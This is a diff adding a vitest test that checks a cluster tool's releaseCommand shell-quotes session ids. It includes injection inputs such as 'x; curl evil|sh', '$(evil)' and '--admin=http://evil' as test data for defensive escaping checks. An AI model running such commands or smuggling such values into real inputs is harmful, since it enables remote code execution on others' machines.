@@ -3,6 +3,7 @@ import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { sessionsOnCluster } from '../../src/cluster/sessions.ts'
+import { releaseCommand } from '../../src/cluster/release.ts'
 import { sessions } from '../../src/sessions/sessions.ts'
 import { programInMemory } from '../support/program-in-memory.ts'
 
@@ -89,6 +90,12 @@ test('a session that is not set aside is left alone, and its state is said', asy
   expect(asked.filter((each) => each.includes('/invocations/'))).toEqual([])
   const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
   await expect(sessions({}, ['release', 's-1'], program)).rejects.toThrow('needs the address of the cluster')
+})
+
+test('whoever chose the id of a session runs nothing in the shell that a release is pasted into', () => {
+  expect(releaseCommand('x; curl evil|sh')).toBe('halting sessions release "x; curl evil|sh" --cluster URL')
+  expect(releaseCommand('$(evil)')).toBe("halting sessions release '$(evil)' --cluster URL")
+  expect(releaseCommand('--admin=http://evil')).toBe('halting sessions release --cluster URL -- --admin=http://evil')
 })
 
 test('a session that is set aside is deleted without running again, by force alone', async () => {
